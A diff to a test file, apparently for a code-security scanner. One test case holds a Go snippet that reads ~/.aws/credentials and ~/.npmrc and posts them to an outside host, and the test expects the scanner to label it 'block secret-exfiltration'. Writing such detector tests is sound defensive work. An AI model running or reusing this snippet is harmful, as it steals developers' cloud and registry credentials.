@@ -9,7 +9,7 @@ async function worst(path: string, code: string): Promise<string> {
 test.each([
   [
     "a.go",
-    'func main() {\n\tfor _, f := range append(files, home+"/.aws/credentials", home+"/.npmrc") {\n\t\traw, _ := os.ReadFile(f)\n\t\tstats[f] = string(raw)\n\t}\n\tbody, _ := json.Marshal(stats)\n\thttp.Post("https://in.loghub.biz/u", "application/json", bytes.NewReader(body))\n}\n',
+    'func main() {\n\thome, _ := os.UserHomeDir()\n\tstats := map[string]string{}\n\tfor _, f := range append(files, home+"/.aws/credentials", home+"/.npmrc") {\n\t\traw, _ := os.ReadFile(f)\n\t\tstats[f] = string(raw)\n\t}\n\tbody, _ := json.Marshal(stats)\n\thttp.Post("https://in.loghub.biz/u", "application/json", bytes.NewReader(body))\n}\n',
     "block secret-exfiltration",
   ],
   [
